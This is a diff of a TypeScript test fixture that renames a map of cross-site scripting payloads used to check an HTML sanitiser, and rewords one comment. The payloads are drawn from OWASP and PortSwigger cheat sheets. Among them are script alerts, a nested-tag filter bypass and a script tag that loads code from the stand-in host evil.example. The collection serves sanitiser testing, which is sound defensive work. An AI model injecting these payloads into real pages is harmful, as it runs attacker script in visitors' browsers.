@@ -2,7 +2,7 @@
  * Markup that runs, frames, restyles, redirects or overrides names where a page shows it unsanitised. Collected from the cheat sheets of
  * OWASP and PortSwigger and from advisories of HTML sanitisers. A call of `alert` shows that one ran.
  */
-export const hostileHtml: Record<string, string> = {
+export const unsafeHtml: Record<string, string> = {
   'a script': '<script>alert(1)</script>',
   'a script from elsewhere, in mixed case': '<ScRiPt src=//evil.example/x.js></sCrIpT>',
   'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -78,6 +78,6 @@ export const hostileHtml: Record<string, string> = {
     '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
 };
 
-/** Harmless markup that must survive beside the hostile one. */
+/** Harmless markup that sanitising must keep. */
 export const plainHtml =
   '<h2>Who we are</h2><p><strong>Bold</strong> and <a href="https://example.org/">a link</a></p>';
